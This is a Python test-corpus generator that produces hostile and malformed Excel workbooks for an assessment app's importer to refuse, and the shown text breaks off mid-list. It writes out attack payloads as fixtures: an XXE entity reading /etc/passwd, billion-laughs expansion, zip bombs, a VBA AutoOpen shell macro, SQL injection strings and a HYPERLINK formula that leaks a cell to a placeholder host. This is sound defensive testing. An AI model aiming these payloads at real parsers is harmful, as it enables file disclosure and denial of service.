"""A corpus of hostile and broken workbooks, generated from real exports made by the app.

``Source`` makes valid exports (its own database, one unit each); ``build_corpus`` writes one
file per ``KIND`` into a folder and returns the samples. Each kind says what the app must do
with it: refuse it with one of the ``expect`` codes (a problem naming the file and the place),
or import it (``outcome="imported"``) with its text cleaned but otherwise unchanged.

The files are built the way they arise: Excel-style edits through openpyxl (a person), byte
and zip-structure edits (a damaged copy, an attacker). Nothing here depends on the importer.
"""

from __future__ import annotations

import errno
import io
import os
import random
import re
import shutil
import struct
import zipfile
from collections.abc import Callable, Iterable
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path

from assessments.exchange.export import export_assessment
from assessments.questionnaire import Questionnaire
from assessments.sample_answers import plausible_answers
from assessments.scoring import Answer
from assessments.store import Store

BASE_UNIT = "Bilgi İşlem Dairesi Başkanlığı"
ROUND = "2026"
ANSWERS_SHEET = "Yanıtlar"
META_SHEET = "_meta"
ANSWERS_PART = "xl/worksheets/sheet2.xml"  # the export's second sheet (Özet, Yanıtlar, ...)
OLE2_SIGNATURE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

# Text a unit may really type: control characters (a paste from a PDF), right-to-left Arabic
# and Hebrew with bidi marks, emoji with skin tones and joiners, and every Turkish letter.
CONTROL_NOTE = "Satır\x00 bir\x07\x08 ve\x0b\x0c iki\x1b\r\nüç\rdört\tbeş\x7f\x85 son\ufffe\uffff"
RTL_NOTE = "\u202bمرحبا بالعالم\u202c — שלום עולם \u200fקישור\u200e — Türkçe ışık"
EMOJI_NOTE = "Akıllı şehir 🏙️🚦 👩🏽‍💻 👨‍👩‍👧 🇹🇷 ✅ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ÇçĞğİıÖöŞşÜü âîû"
# What a reason names besides the file. "file": the file as a whole (it cannot be opened, or is
# no workbook at all); "part": the zip member (``params["part"]``); "sheet": a sheet; "cell": a
# cell such as ``Yanıtlar!D14`` or ``_meta!B7``.
PLACES = ("file", "part", "sheet", "cell")
WEIRD_UNITS = {
    "control": "Kontrol Karakterli Birim",
    "rtl": "Sağdan Sola Yazı Birimi",
    "emoji": "Emoji Birimi 🏙️",
    "sql": "Robert'); DROP TABLE units; -- Birimi",
}


@dataclass(frozen=True)
class Kind:
    """One kind of bad (or merely odd) workbook and what the app must do with it."""

    name: str
    description: str
    build: Callable[[Source, Path], Path]
    expect: tuple[str, ...] = ()  # a refusal must report at least one of these codes
    place: str = "cell"  # what each reason must name besides the file: PLACES
    outcome: str = "rejected"  # rejected | imported
    suffix: str = ".xlsx"


@dataclass(frozen=True)
class Sample:
    kind: Kind
    path: Path
    unit: str = ""  # an importable sample's unit
    notes: dict[str, str] = field(default_factory=dict)  # question id -> note as written in the app


# -- valid exports ----------------------------------------------------------------------------


class Source:
    """A unit's database that makes real exports: the base every corrupt file starts from."""

    def __init__(self, folder: Path, questionnaire: Questionnaire):
        self.folder = Path(folder)
        self.folder.mkdir(parents=True, exist_ok=True)
        self.questionnaire = questionnaire
        self.store = Store(self.folder / "source.sqlite3")
        self.store._conn.execute(
            "PRAGMA synchronous = OFF"
        )  # scratch data: no disk sync per answer
        self.notes: dict[str, dict[str, str]] = {}
        self.base = self.export(BASE_UNIT, seed=7)

    def close(self) -> None:
        self.store.close()

    def __enter__(self) -> Source:
        return self

    def __exit__(self, *exc) -> None:
        self.close()

    @property
    def question_ids(self) -> list[str]:
        return [q.id for q in self.questionnaire.questions]

    def export(
        self, unit: str, *, seed: int = 1, notes: dict[str, str] | None = None, round: str = ROUND
    ) -> Path:
        """Export an assessment of ``unit`` with plausible answers (and ``notes`` on top).
        Each unit is exported once; later calls return the same file."""
        name = "".join(ch if ch.isalnum() else "_" for ch in unit)[:40] + f"-{round}.xlsx"
        path = self.folder / "exports" / name
        if path.exists():
            return path
        info = self.store.create_assessment(
            unit, round, self.questionnaire, respondent="Ayşe Yılmaz"
        )
        for answer in plausible_answers(self.questionnaire, random.Random(seed)).values():
            self.store.set_answer(info.uuid, answer)
        for qid, note in (notes or {}).items():
            old = self.store.answer(info.uuid, qid)
            current = old.current if old.current is not None else 2
            self.store.set_answer(
                info.uuid,
                Answer(
                    qid,
                    current=current,
                    target=max(current, old.target or 0),
                    note=note,
                    evidence=note,
                ),
            )
        self.notes[unit] = dict(notes or {})
        path.parent.mkdir(parents=True, exist_ok=True)
        return export_assessment(self.store, self.questionnaire, info.uuid, path, "tr")

    def uuid_of(self, unit: str) -> str:
        return self.store.get_assessment(unit, ROUND).uuid


# -- editing helpers ----------------------------------------------------------------------------


def key_row(ws) -> tuple[int, dict[str, int]]:
    """The key row's number and key -> column number on an answers sheet."""
    for row in ws.iter_rows(max_row=10):
        keys = {c.value: c.column for c in row if isinstance(c.value, str)}
        if "question_id" in keys:
            return row[0].row, keys
    raise LookupError("no key row")


def rows_by_question(ws) -> dict[str, int]:
    header, cols = key_row(ws)
    return {
        ws.cell(r, cols["question_id"]).value: r
        for r in range(header + 1, ws.max_row + 1)
        if ws.cell(r, cols["question_id"]).value
    }


def edit(source: Path, target: Path, change: Callable) -> Path:
    """Open ``source`` with openpyxl, let ``change(wb, answers_ws)`` edit, save as ``target``:
    what a person does in Excel."""
    import openpyxl

    wb = openpyxl.load_workbook(source)
    change(wb, wb[ANSWERS_SHEET] if ANSWERS_SHEET in wb.sheetnames else None)
    wb.save(target)
    return target


def set_answer_cells(source: Path, target: Path, values: dict[tuple[int, str], object]) -> Path:
    """Set cells of the answers sheet by (question index, column key)."""

    def change(wb, ws):
        _, cols = key_row(ws)
        rows = rows_by_question(ws)
        ids = list(rows)
        for (index, key), value in values.items():
            cell = ws.cell(rows[ids[index]], cols[key])
            if isinstance(value, str) and value.startswith("#"):
                cell.value, cell.data_type = value, "e"  # an error value such as #REF!
            else:
                cell.value = value

    return edit(source, target, change)


def set_meta(source: Path, target: Path, **values) -> Path:
    def change(wb, _):
        for row in wb[META_SHEET].iter_rows(min_row=2):
            if row[0].value in values:
                row[1].value = values[row[0].value]

    return edit(source, target, change)


def rewrite_zip(
    source: Path,
    target: Path,
    changes: dict[str, Callable[[bytes], bytes] | None] = (),
    extra: dict[str, bytes] = (),
) -> Path:
    """Copy the zip member by member, changing (or, for None, dropping) some and adding others."""
    changes = dict(changes)
    with zipfile.ZipFile(source) as zin:
        items = [(info.filename, zin.read(info.filename)) for info in zin.infolist()]
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in items:
            if name in changes:
                if changes[name] is None:
                    continue
                data = changes[name](data)
            zout.writestr(name, data)
        for name, data in dict(extra).items():
            zout.writestr(name, data)
    return target


def _central_records(data: bytes | bytearray) -> Iterable[tuple[int, str, int]]:
    """(offset of the central directory record, member name, offset of its local header)."""
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        name = bytes(data[at + 46 : at + 46 + name_length]).decode("utf-8")
        yield at, name, struct.unpack_from("<I", data, at + 42)[0]
        at = data.find(b"PK\x01\x02", at + 46 + name_length)


def patch_sizes(
    path: Path,
    member: str,
    *,
    central: int | None = None,
    local: int | None = None,
    local_compressed: int | None = None,
) -> Path:
    """Overwrite the declared uncompressed size of ``member`` in the central directory and/or
    its local header (and the local compressed size): a zip whose headers lie."""
    data = bytearray(path.read_bytes())
    for at, name, local_at in _central_records(data):
        if name != member:
            continue
        if central is not None:
            struct.pack_into("<I", data, at + 24, central)
        if local is not None:
            struct.pack_into("<I", data, local_at + 22, local)
        if local_compressed is not None:
            struct.pack_into("<I", data, local_at + 18, local_compressed)
    path.write_bytes(bytes(data))
    return path


def with_doctype(doctype: bytes, entity: bytes, anchor: bytes) -> Callable[[bytes], bytes]:
    """Put a DTD before the root element and a reference to ``entity`` in place of ``anchor``."""

    def change(data: bytes) -> bytes:
        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        assert anchor in body, anchor
        return b'<?xml version="1.0" encoding="UTF-8"?>' + doctype + body.replace(anchor, entity, 1)

    return change


XXE_DTD = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS_DTD = (
    b'<!DOCTYPE r [<!ENTITY l0 "lol">'
    + b"".join(
        b'<!ENTITY l%d "%s">' % (i, b"".join(b"&l%d;" % (i - 1) for _ in range(10)))
        for i in range(1, 10)
    )
    + b"]>"
)  # 10^9 "lol"s if expanded


def shared_strings(
    doctype: bytes, entity: bytes, unique_count: bytes = b"1"
) -> Callable[[Path, Path], Path]:
    """Move the answers sheet's first header text into a shared-strings part carrying a DTD."""
    part = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        + doctype
        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        b'uniqueCount="' + unique_count + b'"><si><t>' + entity + b"</t></si></sst>"
    )
    rel = (
        b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    )
    override = (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxml'
        b'formats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'
    )

    def build(src: Source, target: Path) -> Path:
        return rewrite_zip(
            src.base,
            target,
            {
                "xl/_rels/workbook.xml.rels": lambda d: d.replace(b"</Relationships>", rel),
                "[Content_Types].xml": lambda d: d.replace(b"</Types>", override),
                ANSWERS_PART: lambda d: d.replace(
                    b't="inlineStr"><is><t>Boyut</t></is>', b't="s"><v>0</v>', 1
                ),
            },
            extra={"xl/sharedStrings.xml": part},
        )

    return build


def words(rng: random.Random, size: int) -> str:
    """Text of about ``size`` characters that packs like prose (a zip bomb check must not trip)."""
    vocabulary = [
        "akıllı",
        "şehir",
        "veri",
        "ölçüm",
        "çağrı",
        "ığdır",
        "güneş",
        "İzmir",
        "üretim",
        "planlama",
        "belediye",
        "sensör",
        "ağ",
        "Balıkesir",
        "hizmet",
    ]
    parts, length = [], 0
    while length < size:
        word = rng.choice(vocabulary) + str(rng.randrange(1000))
        parts.append(word)
        length += len(word) + 1
    return " ".join(parts)[:size]


# -- the kinds --------------------------------------------------------------------------------


def _copy(src: Source, target: Path) -> Path:
    shutil.copyfile(src.base, target)
    return target


def _bytes(data: bytes) -> Callable[[Source, Path], Path]:
    def build(src: Source, target: Path) -> Path:
        target.write_bytes(data)
        return target

    return build


def _truncated(src: Source, target: Path) -> Path:
    data = src.base.read_bytes()
    target.write_bytes(data[: len(data) * 2 // 3])
    return target


def _declared_huge(src: Source, target: Path) -> Path:
    _copy(src, target)
    return patch_sizes(target, ANSWERS_PART, central=0xFFFF0000)


def _high_ratio(src: Source, target: Path) -> Path:
    # 64 MB of one byte packs to ~64 KB (about 1000:1): a classic bomb member.
    return rewrite_zip(
        src.base, target, extra={"xl/media/image1.bin": b"\x00" * (64 * 1024 * 1024)}
    )


def _sizes_lie(src: Source, target: Path) -> Path:
    """The answers sheet unpacks to 64 MB while both headers declare its honest 48 KB."""
    with zipfile.ZipFile(src.base) as z:
        honest = z.getinfo(ANSWERS_PART).file_size
    padding = b"<!--" + b" " * (64 * 1024 * 1024) + b"-->"
    rewrite_zip(
        src.base,
        target,
        {ANSWERS_PART: lambda d: d.replace(b"<sheetData>", b"<sheetData>" + padding, 1)},
    )
    return patch_sizes(target, ANSWERS_PART, central=honest, local=honest)


def _content_types_lie(src: Source, target: Path) -> Path:
    """[Content_Types].xml (parsed before anything else) unpacks to 64 MB behind a declared
    size of 20 KB: more than the DTD scan reads, so the full parse meets the lie."""
    part = "[Content_Types].xml"
    padding = b"<!--" + b" " * (64 * 1024 * 1024) + b"-->"
    rewrite_zip(
        src.base, target, {part: lambda d: d.replace(b"</Types>", padding + b"</Types>", 1)}
    )
    return patch_sizes(target, part, central=20_000, local=20_000)


def _local_header_lies(src: Source, target: Path) -> Path:
    """Local headers claim 2 GB where the central directory tells the truth: readers trust the
    central directory and the CRC, so the file is harmless and imports unchanged."""
    _copy(src, target)
    return patch_sizes(target, ANSWERS_PART, local=0x7FFFFFFF, local_compressed=10)


def _encrypted_member(src: Source, target: Path) -> Path:
    _copy(src, target)
    data = bytearray(target.read_bytes())
    for at, _name, local_at in _central_records(data):
        data[at + 8] |= 0x1  # general purpose flag: encrypted
        data[local_at + 6] |= 0x1
    target.write_bytes(bytes(data))
    return target


def _zip_version(src: Source, target: Path) -> Path:
    _copy(src, target)
    data = bytearray(target.read_bytes())
    for at, _name, _local in _central_records(data):
        data[at + 6] = 255  # "version needed to extract": 25.5
    target.write_bytes(bytes(data))
    return target


def _ole2_encrypted(src: Source, target: Path) -> Path:
    """What Excel writes for a password-protected workbook: an OLE2 compound file holding
    the EncryptionInfo and EncryptedPackage streams."""
    header = OLE2_SIGNATURE + b"\x00" * 16 + struct.pack("<HHH", 0x3E, 0x3, 0xFFFE) + b"\x09\x00"
    target.write_bytes(
        header.ljust(512, b"\x00") + "EncryptedPackage".encode("utf-16-le").ljust(4096, b"\xff")
    )
    return target


def _old_xls(src: Source, target: Path) -> Path:
    """An Excel 97-2003 workbook (BIFF8 in an OLE2 container) renamed to .xlsx, damaged: its
    compound file has no sector table (a sound .xls is read: tests/core/test_formats.py)."""
    header = OLE2_SIGNATURE + b"\x00" * 16 + struct.pack("<HHH", 0x3E, 0x3, 0xFFFE) + b"\x09\x00"
    bof = struct.pack("<HHHH", 0x0809, 16, 0x0600, 0x0005) + b"\x00" * 12  # BIFF8 BOF, globals
    target.write_bytes(
        header.ljust(512, b"\x00")
        + "Workbook".encode("utf-16-le").ljust(512, b"\x00")
        + bof.ljust(8192, b"\x00")
    )
    return target


def _xlsm(src: Source, target: Path) -> Path:
    macro_type = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return rewrite_zip(
        src.base,
        target,
        {
            "[Content_Types].xml": lambda d: d.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                macro_type,
            ),
        },
        extra={
            "xl/vbaProject.bin": OLE2_SIGNATURE
            + b'Attribute VB_Name = "Module1"\nSub AutoOpen()\nShell "calc"\nEnd Sub'
        },
    )


def _too_many_parts(src: Source, target: Path) -> Path:
    return rewrite_zip(
        src.base, target, extra={f"customXml/item{i}.xml": b"<a/>" for i in range(2100)}
    )


def _too_large(src: Source, target: Path) -> Path:
    """A 60 MB file (sparse: it costs no disk) that starts like a zip."""
    with open(target, "wb") as f:
        f.write(b"PK\x03\x04")
        f.truncate(60 * 1024 * 1024)
    return target


def _not_a_workbook_zip(src: Source, target: Path) -> Path:
    with zipfile.ZipFile(target, "w") as z:
        z.writestr("Belgeler/okubeni.txt", "Bu bir arşiv, çalışma kitabı değil.")
    return target


def _drop_sheet(sheet: str) -> Callable[[Source, Path], Path]:
    return lambda src, target: edit(src.base, target, lambda wb, ws: wb.remove(wb[sheet]))


def _rename_sheet(sheet: str, new: str) -> Callable[[Source, Path], Path]:
    def change(wb, ws):
        wb[sheet].title = new

    return lambda src, target: edit(src.base, target, change)


def _missing_columns(src: Source, target: Path) -> Path:
    def change(wb, ws):
        header, cols = key_row(ws)
        ws.cell(header, cols["current_level"]).value = None
        ws.cell(header, cols["note"]).value = "notlar"

    return edit(src.base, target, change)


def _duplicate_rows(src: Source, target: Path) -> Path:
    def change(wb, ws):
        _, cols = key_row(ws)
        rows = rows_by_question(ws)
        ids = list(rows)
        ws.cell(rows[ids[4]], cols["question_id"]).value = ids[1]

    return edit(src.base, target, change)


def _unknown_ids(src: Source, target: Path) -> Path:
    def change(wb, ws):
        _, cols = key_row(ws)
        rows = rows_by_question(ws)
        ids = list(rows)
        ws.cell(rows[ids[3]], cols["question_id"]).value = "ZZZ-99"
        ws.cell(rows[ids[6]], cols["question_id"]).value = "'; DROP TABLE answers; --"

    return edit(src.base, target, change)


def _level(value) -> Callable[[Source, Path], Path]:
    return lambda src, target: set_answer_cells(src.base, target, {(0, "current_level"): value})


def _target_below(src: Source, target: Path) -> Path:
    return set_answer_cells(
        src.base,
        target,
        {(0, "current_level"): 4, (0, "target_level"): 1, (0, "not_applicable"): None},
    )


def _na_without_note(src: Source, target: Path) -> Path:
    return set_answer_cells(src.base, target, {(1, "not_applicable"): "Evet", (1, "note"): None})


def _formula(src: Source, target: Path) -> Path:
    return set_answer_cells(
        src.base,
        target,
        {
            (2, "current_level"): "=1+1",
            (2, "note"): '=HYPERLINK("http://example.invalid/?"&A1,"tıkla")',
        },
    )


def _error_value(src: Source, target: Path) -> Path:
    return set_answer_cells(src.base, target, {(2, "target_level"): "#REF!"})


def _na_garbage(src: Source, target: Path) -> Path:
    return set_answer_cells(src.base, target, {(3, "not_applicable"): "belki"})


def _dates(src: Source, target: Path) -> Path:
    return set_answer_cells(
        src.base, target, {(i, "current_level"): datetime(2026, 3, i + 1) for i in range(5)}
    )


def _meta_key_erased(key: str) -> Callable[[Source, Path], Path]:
    def change(wb, _):
        for row in wb[META_SHEET].iter_rows(min_row=2):
            if row[0].value == key:
                row[0].value = None

    return lambda src, target: edit(src.base, target, change)


def _edited_after_export(src: Source, target: Path) -> Path:
    def change(wb, ws):
        _, cols = key_row(ws)
        rows = rows_by_question(ws)
        row = rows[list(rows)[0]]
        ws.cell(row, cols["note"]).value = "Koordinatörlükte düzeltildi."
        ws.cell(row, cols["target_level"]).value = 5
        ws.cell(row, cols["not_applicable"]).value = None

    return edit(src.base, target, change)


def _huge_note(src: Source, target: Path) -> Path:
    """5 MB of prose in the first note cell (I3), far past a cell's 32,767 characters. Written
    into the XML: openpyxl itself would cut the text at 32,767."""
    note = words(random.Random(5), 5 * 1024 * 1024).encode()
    cell = re.compile(rb'<c r="I3"[^>]*?(?:/>|>.*?</c>)', re.S)

    def change(data: bytes) -> bytes:
        assert cell.search(data)
        return cell.sub(
            lambda _: b'<c r="I3" t="inlineStr"><is><t>' + note + b"</t></is></c>", data, count=1
        )

    return rewrite_zip(src.base, target, {ANSWERS_PART: change})


def _junk_rows(src: Source, target: Path) -> Path:
    rng = random.Random(11)

    def change(wb, ws):
        _, cols = key_row(ws)
        start = ws.max_row + 1
        for r in range(start, start + 10_000):
            ws.cell(r, cols["note"]).value = words(rng, 30)
            ws.cell(r, cols["current_level"]).value = rng.randrange(9)
            ws.cell(r, 14).value = rng.random()  # an extra column nobody asked for

    return edit(src.base, target, change)


def _merged_key_row(src: Source, target: Path) -> Path:
    def change(wb, ws):
        header, cols = key_row(ws)
        ws.merge_cells(
            start_row=header,
            start_column=cols["question_id"],
            end_row=header,
            end_column=cols["target_level"],
        )

    return edit(src.base, target, change)


def _far_cell(src: Source, target: Path) -> Path:
    """One value in the sheet's last cell: a 50 KB file whose grid is 17 billion cells."""
    row = (
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    )
    return rewrite_zip(
        src.base, target, {ANSWERS_PART: lambda d: d.replace(b"</sheetData>", row, 1)}
    )


def _in_sheet(old: bytes, new: bytes, part: str = ANSWERS_PART) -> Callable[[Source, Path], Path]:
    """Replace ``old`` by ``new`` in a sheet's XML (the bytes an attacker edits)."""

    def change(data: bytes) -> bytes:
        assert old in data, old
        return data.replace(old, new, 1)

    return lambda src, target: rewrite_zip(src.base, target, {part: change})


def _declared_dimension(new: bytes) -> Callable[[Source, Path], Path]:
    """Replace the answers sheet's declared dimension, whatever the questionnaire's size."""

    def change(data: bytes) -> bytes:
        changed, count = re.subn(rb'<dimension ref="[^"]*" ?/>', new, data, count=1)
        assert count == 1, "no <dimension> in the answers sheet"
        return changed

    return lambda src, target: rewrite_zip(src.base, target, {ANSWERS_PART: change})


def _far(row: bytes) -> Callable[[Source, Path], Path]:
    return _in_sheet(b"</sheetData>", row + b"</sheetData>")


def _cell(ref: str, xml: bytes) -> Callable[[Source, Path], Path]:
    """Replace the answers sheet's cell ``ref`` by ``xml``."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)

    def change(data: bytes) -> bytes:
        assert pattern.search(data), ref
        return pattern.sub(lambda _: xml, data, count=1)

    return lambda src, target: rewrite_zip(src.base, target, {ANSWERS_PART: change})


META_PART = "xl/worksheets/sheet4.xml"


def _meta_value(key: str, value: bytes) -> Callable[[Source, Path], Path]:
    """Set a machine-sheet value in the XML, past what openpyxl would let a person type."""
    pattern = re.compile(rb"(<t>" + key.encode() + rb"</t></is></c><c [^>]*><is><t>)[^<]*(</t>)")

    def change(data: bytes) -> bytes:
        assert pattern.search(data), key
        return pattern.sub(lambda m: m.group(1) + value + m.group(2), data, count=1)

    return lambda src, target: rewrite_zip(src.base, target, {META_PART: change})


def _same_name_twice(src: Source, target: Path) -> Path:
    """A second sheet named like the answers sheet whose part holds a far cell: the check
    must read every part of that name, not one of them."""
    far = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData><row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>x</t></is></c>"
        b"</row></sheetData></worksheet>"
    )
    rel = (
        b'<Relationship Id="rIdTwin" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/worksheet" Target="/xl/worksheets/sheet99.xml"/></Relationships>'
    )
    sheet = (
        '<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
        ' name="Yanıtlar" sheetId="99" r:id="rIdTwin" /></sheets>'
    ).encode()
    override = (
        b'<Override PartName="/xl/worksheets/sheet99.xml" ContentType="application/vnd.'
        b'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    return rewrite_zip(
        src.base,
        target,
        {
            "xl/_rels/workbook.xml.rels": lambda d: d.replace(b"</Relationships>", rel),
            "xl/workbook.xml": lambda d: d.replace(b"</sheets>", sheet),
            "[Content_Types].xml": lambda d: d.replace(b"</Types>", override),
        },
        extra={"xl/worksheets/sheet99.xml": far},
    )


def _shared_strings_count(src: Source, target: Path) -> Path:
    """A shared-strings part declaring four billion strings: calamine reserves memory for
    them when it opens the workbook (a 96 GB allocation, rc 134)."""
    return shared_strings(b"", b"Boyut", unique_count=b"4000000000")(src, target)


def _case_twins(src: Source, target: Path) -> Path:
    """Two members whose names differ in case only: calamine looks parts up ignoring case."""
    far = _far(b"<row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>x</t></is></c></row>")
    with zipfile.ZipFile(far(src, target.with_suffix(".far"))) as z:
        evil = z.read(ANSWERS_PART)
    target.with_suffix(".far").unlink()
    return rewrite_zip(src.base, target, extra={ANSWERS_PART.replace("sheet2", "SHEET2"): evil})


def _merged_level(src: Source, target: Path) -> Path:
    """A current-level cell merged over three questions (D3:D5): calamine reads D3 only."""

    def change(wb, ws):
        _, cols = key_row(ws)
        rows = rows_by_question(ws)
        first = rows[list(rows)[0]]
        ws.merge_cells(
            start_row=first,
            start_column=cols["current_level"],
            end_row=first + 2,
            end_column=cols["current_level"],
        )

    return edit(src.base, target, change)


def _oversize_part(src: Source, target: Path) -> Path:
    """An answers sheet of 17 MB (a comment of prose: it packs like a sheet, not a bomb)."""
    padding = b"<!--" + words(random.Random(9), 17 * 1024 * 1024).encode() + b"-->"
    return rewrite_zip(
        src.base,
        target,
        {ANSWERS_PART: lambda d: d.replace(b"<sheetData>", b"<sheetData>" + padding, 1)},
    )


def _identity_spoofed(src: Source, target: Path) -> Path:
    """Unit A's own export claiming to be unit B: unit, uuid and revision edited on _meta."""
    src.export(SPOOFED_UNIT, seed=71)
    return set_meta(
        src.base,
        target,
        unit=SPOOFED_UNIT,
        assessment_uuid=src.uuid_of(SPOOFED_UNIT),
        revision="999",
    )


SPOOFED_UNIT = "Kimliği Taklit Edilen Birim"


def _template(src: Source, target: Path, change: Callable) -> Path:
    from assessments.exchange.template import write_template

    write_template(src.questionnaire, target, "tr")

    def fill(wb, ws):
        _, cols = key_row(ws)
        rows = rows_by_question(ws)
        ws.cell(rows[src.question_ids[0]], cols["current_level"]).value = 2
        guide = wb.worksheets[0]
        for row in guide.iter_rows():
            for cell in row:
                form = {"unit": "Şablonu Yeniden Adlandıran Birim", "round": ROUND}
                if cell.value in form:
                    guide.cell(cell.row, cell.column + 2).value = form[cell.value]
        change(wb, guide)

    return edit(target, target, fill)


def renamed_instructions(src: Source, target: Path) -> Path:
    """Tolerated (tests/exchange): the form is found by its keys, whatever the sheet is called."""
    return _template(src, target, lambda wb, guide: setattr(guide, "title", "Form"))


def _removed_instructions(src: Source, target: Path) -> Path:
    return _template(src, target, lambda wb, guide: wb.remove(guide))


def _symlink_loop(src: Source, target: Path) -> Path:
    target.symlink_to(target.name)  # a link to itself: ELOOP
    loop_dir = target.with_name(target.stem + "-dir")
    loop_dir.symlink_to(".", target_is_directory=True)  # a folder that contains itself
    return target


def _folder(src: Source, target: Path) -> Path:
    target.mkdir()
    (target / "icerik.txt").write_text("bir klasör", encoding="utf-8")
    return target


def _unreadable(src: Source, target: Path) -> Path:
    """A valid export no one may read: chmod 000 (tests also deny it by ``deny_reading``,
    since root reads it anyway)."""
    shutil.copyfile(src.export("Okunamayan Dosya Birimi", seed=31), target)
    target.chmod(0)
    return target


def _weird_text(key: str, note: str) -> Callable[[Source, Path], Path]:
    def build(src: Source, target: Path) -> Path:
        ids = src.question_ids
        shutil.copyfile(
            src.export(WEIRD_UNITS[key], seed=40 + len(key), notes={ids[0]: note, ids[-1]: note}),
            target,
        )
        return target

    return build


def _renamed_answers_sheet(src: Source, target: Path) -> Path:
    """Tolerated: the reader finds the answers by their key row, whatever the sheet is called."""
    path = src.export("Sayfası Yeniden Adlandırılan Birim", seed=51)
    return edit(path, target, lambda wb, ws: setattr(ws, "title", "Sayfa1"))


def _local_header_lies_tolerated(src: Source, target: Path) -> Path:
    shutil.copyfile(src.export("Yerel Başlığı Yanlış Birim", seed=52), target)
    return patch_sizes(target, ANSWERS_PART, local=0x7FFFFFFF, local_compressed=10)


KINDS: tuple[Kind, ...] = (
    # The container
    Kind(
        "not-a-zip",
        "plain text renamed .xlsx",
        _bytes("Bu bir Excel dosyası değil.\n".encode()),
        ("x.not_xlsx",),
        place="file",
    ),
    Kind(
        "pdf-renamed",
        "a PDF renamed .xlsx",
        _bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"),
        ("x.wrong_document",),
        place="file",
    ),
    Kind("zero-bytes", "an empty file (0 bytes)", _bytes(b""), ("x.empty_file",), place="file"),
    Kind(
        "truncated-zip",
        "the first two thirds of an export",
        _truncated,
        ("x.corrupt",),
        place="file",
    ),
    Kind("too-large", "a 60 MB file", _too_large, ("x.too_large",), place="file"),
    Kind(
        "zip-bomb-declared",
        "a member declaring 4 GB unpacked",
        _declared_huge,
        ("x.unpacked_too_large",),
        place="file",
    ),
    Kind(
        "zip-bomb-ratio",
        "a 64 MB member packed about 1000:1",
        _high_ratio,
        ("x.bomb_ratio",),
        place="part",
    ),
    Kind(
        "zip-sizes-lie",
        "a sheet unpacking to 64 MB while both headers declare 48 KB",
        _sizes_lie,
        ("x.unreadable", "x.corrupt"),
        place="sheet",
    ),
    Kind(
        "zip-sizes-lie-content-types",
        "[Content_Types].xml unpacking to 64 MB behind its declared size",
        _content_types_lie,
        ("x.corrupt",),
        place="file",
    ),
    Kind(
        "zip-too-many-parts",
        "2,100 extra members",
        _too_many_parts,
        ("x.too_many_parts",),
        place="file",
    ),
    Kind(
        "zip-encrypted-members",
        "zip members flagged as encrypted",
        _encrypted_member,
        ("x.password",),
        place="file",
    ),
    Kind(
        "zip-version-unsupported",
        "members needing zip version 25.5 to extract",
        _zip_version,
        ("x.corrupt",),
        place="file",
    ),
    Kind(
        "zip-not-a-workbook",
        "a zip of a text file",
        _not_a_workbook_zip,
        ("x.missing_part",),
        place="part",
    ),
    Kind(
        "password-protected",
        "OLE2 compound file, as Excel writes an encrypted workbook",
        _ole2_encrypted,
        ("x.password",),
        place="file",
    ),
    Kind(
        "old-xls-renamed",
        "a damaged Excel 97-2003 .xls (a bare BIFF8 stream, no sector table) renamed .xlsx",
        _old_xls,
        ("x.ole2",),
        place="file",
    ),
    Kind("xlsm-macros", "macro-enabled, with vbaProject.bin", _xlsm, ("x.macros",), place="file"),
    Kind("folder", "a folder named like a workbook", _folder, ("x.is_folder",), place="file"),
    Kind(
        "unreadable",
        "no permission to read (chmod 000)",
        _unreadable,
        ("x.unreadable",),
        place="file",
    ),
    Kind(
        "symlink-loop",
        "a symbolic link to itself (and a folder link to its own folder)",
        _symlink_loop,
        ("x.unreadable", "x.not_found"),
        place="file",
    ),
    # XML attacks
    Kind(
        "xxe-sheet",
        "external entity (file:///etc/passwd) in the answers sheet",
        lambda s, t: rewrite_zip(
            s.base, t, {ANSWERS_PART: with_doctype(XXE_DTD, b"&xxe;", b"Boyut")}
        ),
        ("x.unsafe_xml",),
        place="part",
    ),
    Kind(
        "laughs-sheet",
        "entity expansion (billion laughs) in the answers sheet",
        lambda s, t: rewrite_zip(
            s.base, t, {ANSWERS_PART: with_doctype(LAUGHS_DTD, b"&l9;", b"Boyut")}
        ),
        ("x.unsafe_xml",),
        place="part",
    ),
    Kind(
        "xxe-sheet-deep",
        "external entity declared after a 16 KB comment (past the prolog scan)",
        lambda s, t: rewrite_zip(
            s.base,
            t,
            {
                ANSWERS_PART: with_doctype(
                    b"<!--" + b" " * 16384 + b"-->" + XXE_DTD, b"&xxe;", b"Boyut"
                )
            },
        ),
        ("x.unsafe_xml",),
        place="part",
    ),  # the sheet's own defused parse meets the DTD
    Kind(
        "xxe-shared-strings",
        "external entity in xl/sharedStrings.xml",
        shared_strings(XXE_DTD, b"&xxe;"),
        ("x.unsafe_xml",),
        place="part",
    ),
    Kind(
        "laughs-shared-strings",
